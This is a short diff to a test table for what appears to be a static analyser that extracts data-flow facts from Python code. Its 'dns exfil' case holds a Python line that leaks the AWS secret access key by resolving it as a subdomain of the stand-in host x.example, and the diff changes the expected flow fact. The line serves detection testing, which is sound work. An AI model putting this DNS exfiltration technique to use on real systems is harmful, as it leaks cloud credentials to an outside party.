@@ -147,7 +147,7 @@ describe('python extractor: facts', () => {
     [
       'dns exfil',
       `socket.gethostbyname(os.environ["AWS_SECRET_ACCESS_KEY"] + ".x.example")`,
-      ['flow:env:AWS_SECRET_ACCESS_KEY->dns:$AWS_SECRET_ACCESS_KEY.x.example'],
+      ['flow:env:AWS_SECRET_ACCESS_KEY->dns:x.example'],
     ],
   ];
   it.each(table)('%s', (_name, code, want) => {
